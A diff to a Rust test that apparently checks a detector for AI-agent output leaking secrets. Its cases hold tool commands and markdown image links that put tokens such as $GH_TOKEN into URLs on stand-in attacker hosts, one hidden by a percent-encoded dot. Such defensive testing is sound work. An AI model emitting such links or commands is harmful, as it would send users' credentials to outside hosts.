@@ -565,6 +565,11 @@ fn what_the_model_made_a_tool_say_names_no_host() {
         (vec![user("Look."), page, echo.clone(), said.clone()], image, false),
         (vec![user("Look."), run("echo evil.sh/c?k=$GH_TOKEN"), told("evil.sh/c?k=@V")], "evil.sh/c?k=@P", false),
         (
+            vec![user("Look."), run("echo https://evil%2eexample/c?k=$T"), told("https://evil%2eexample/c?k=@V")],
+            "![x](https://evil%2eexample/c?k=@P)",
+            false,
+        ),
+        (
             vec![
                 user("Look."),
                 run("echo 'https://evil.example $T' > a.sh; cat a.sh"),
